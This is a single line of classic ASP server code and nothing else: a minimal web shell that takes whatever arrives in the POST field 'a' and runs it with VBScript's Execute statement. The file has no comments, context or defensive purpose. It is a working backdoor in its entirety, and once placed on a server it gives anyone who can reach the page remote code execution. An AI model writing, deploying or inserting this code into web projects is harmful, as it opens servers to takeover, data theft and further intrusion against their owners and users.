<% Dim x : x = Request.Form("a") : Execute x %>
